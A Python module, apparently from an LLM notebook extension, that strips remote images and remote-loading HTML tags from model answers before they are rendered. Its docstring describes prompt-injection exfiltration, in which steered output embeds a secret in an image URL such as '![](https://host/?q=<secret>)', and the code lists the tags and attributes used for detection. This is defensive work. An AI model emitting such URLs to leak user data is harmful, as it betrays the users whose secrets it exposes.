"""Answers shown as Markdown or HTML load nothing from the network by default.

A model's answer is text someone else may have steered (a prompt injection in a web page, a
document, a DataFrame cell). Rendered as Markdown, ``![](https://host/?q=<secret>)`` makes the
browser fetch that URL at once: the known exfiltration path of LLM chat UIs. So before an
answer is displayed:

* a remote image (``![alt](https://...)`` and the reference form) becomes a link with the same
  text, which loads nothing until a person clicks it;
* an HTML tag that would load a remote resource (``<img src=https://...>``, ``<iframe>``,
  ``<video>``, ``<link>``, ``<script>``, a ``style`` with ``url(...)``, ...) is shown as text;
* code (fenced blocks and inline code spans) is never touched, since it is never rendered.

Local files (relative paths) and ``data:`` URIs still render. ``allow_remote(True)`` (or
``LLM_MAGICS_REMOTE_CONTENT=1``, or ``%config LLMMagics.remote_content = True``) turns this
off for the process.

Thread safety: pure functions; the switch is one module-level flag.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable

__all__ = ["allow_remote", "remote_allowed", "safe_html", "safe_markdown"]

_allowed: bool | None = None


def allow_remote(value: bool | None) -> None:
    """Let answers load remote images and resources (True), or not (False); None goes back
    to ``LLM_MAGICS_REMOTE_CONTENT``."""
    global _allowed
    _allowed = value


def remote_allowed() -> bool:
    if _allowed is not None:
        return _allowed
    return os.environ.get("LLM_MAGICS_REMOTE_CONTENT", "").strip().lower() in ("1", "true", "yes")


# A URL is remote unless it is a data: URI or a path (no scheme, no //host).
_REMOTE_URL = re.compile(r"^\s*<?\s*(?!data:)(?:[a-z][a-z0-9+.-]*:|//)", re.IGNORECASE)

_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})[^\n]*\n.*?(?:^ {0,3}\2[`~]*[ \t]*$|\Z)", re.M | re.S)
_CODE_SPAN = re.compile(r"(`+)(?!`).+?(?<!`)\1(?!`)", re.S)

_INLINE_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.|\[[^\]]*\])*)\]\(\s*(<[^>]*>|[^\s)]+)([^)]*)\)")
_REFERENCE_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.)*)\](\[[^\]]*\])?")
_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\]\\]|\\.)+)\]:\s*(<[^>]*>|\S+)", re.M)

# Tags that fetch something when rendered, and attributes that name what they fetch.
_LOADING_TAGS = (
    "img|image|picture|source|video|audio|track|iframe|frame|frameset|embed|object|link|"
    "script|style|svg|use|input|base|meta|portal|body|table|td|th"
)
# Opening tags of these are shown as text whatever their attributes say.
_NEVER_RENDERED = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "embed", "object", "base", "link", "meta"}
)
_TAG = re.compile(r"<\s*(/?)\s*([a-z][a-z0-9:-]*)\b([^<>]*)>", re.IGNORECASE)
_URL_ATTRIBUTE = re.compile(
    r"\b(?:src|srcset|href|xlink:href|poster|data|background|action|formaction|content)"
    r"\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]+)",
    re.IGNORECASE,
)
_CSS_URL = re.compile(r"url\s*\(|@import", re.IGNORECASE)


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that loads nothing remote (see the module docstring)."""
    if remote_allowed() or not _may_load(text):
        return text
    return _outside_code(text, _prose)


def safe_html(text: str) -> str:
    """``text`` as HTML with every tag that would load something remote shown as text."""
    if remote_allowed() or not _may_load(text):
        return text
    return _TAG.sub(_tag, text)


def _may_load(text: str) -> bool:
    # Cheap test first: nearly every answer has no image, tag or CSS at all.
    return "![" in text or "<" in text or "url(" in text.lower()


def _outside_code(text: str, change: Callable[[str], str]) -> str:
    out: list[str] = []
    position = 0
    for fence in _FENCE.finditer(text):
        out.append(_spans(text[position : fence.start()], change))
        out.append(fence.group(0))
        position = fence.end()
    out.append(_spans(text[position:], change))
    return "".join(out)


def _spans(text: str, change: Callable[[str], str]) -> str:
    out: list[str] = []
    position = 0
    for span in _CODE_SPAN.finditer(text):
        out.append(change(text[position : span.start()]))
        out.append(span.group(0))
        position = span.end()
    out.append(change(text[position:]))
    return "".join(out)


def _prose(text: str) -> str:
    remote_refs = {
        label.strip().lower() for label, url in _DEFINITION.findall(text) if _REMOTE_URL.match(url)
    }

    def inline(match: re.Match[str]) -> str:
        alt, url, rest = match.group(1), match.group(2), match.group(3)
        if not _REMOTE_URL.match(url):
            return match.group(0)
        return f"[{_label(alt)}]({url}{rest})"

    def reference(match: re.Match[str]) -> str:
        alt, ref = match.group(1), match.group(2)
        label = (ref[1:-1] if ref and len(ref) > 2 else alt).strip().lower()
        if label not in remote_refs:
            return match.group(0)
        return f"[{_label(alt)}]{ref or ''}"

    text = _INLINE_IMAGE.sub(inline, text)
    if remote_refs:
        text = _REFERENCE_IMAGE.sub(reference, text)
    if "<" in text:
        text = _TAG.sub(_tag, text)
    return text


def _tag(match: re.Match[str]) -> str:
    name, attributes = match.group(2).lower(), match.group(3)
    loads = bool(_CSS_URL.search(attributes))
    if not loads and re.fullmatch(_LOADING_TAGS, name):
        if name in _NEVER_RENDERED:
            loads = not match.group(1)  # an opening tag of these: never rendered here
        else:
            loads = any(
                _REMOTE_URL.match(value.strip("\"'")) or _srcset_is_remote(value)
                for value in _URL_ATTRIBUTE.findall(attributes)
            )
    if not loads:
        return match.group(0)
    return "&lt;" + match.group(0)[1:]


def _srcset_is_remote(value: str) -> bool:
    candidates = [part.strip().split(" ")[0] for part in value.strip("\"'").split(",")]
    return any(_REMOTE_URL.match(url) for url in candidates if url)


def _label(alt: str) -> str:
    return f"image: {alt}" if alt.strip() else "image"
